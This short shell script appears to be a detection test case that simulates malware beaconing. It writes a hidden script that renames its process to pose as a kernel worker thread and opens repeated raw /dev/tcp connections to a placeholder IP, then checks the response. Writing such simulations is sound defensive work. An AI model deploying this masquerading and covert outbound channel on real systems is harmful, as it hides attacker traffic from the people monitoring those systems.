#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.b <<'END'
printf 'kworker/u8:2' >/proc/$BASHPID/comm
for n in {1..16}; do exec 3<>/dev/tcp/203.0.113.10/80; printf 'GET /o?%s HTTP/1.0\r\n\r\n' $n >&3; cat <&3 >/tmp/.o; exec 3>&-; read -rt 0.5 <><(:) || :; done
END
bash /tmp/.b
grep -q ok /tmp/.o
took_place
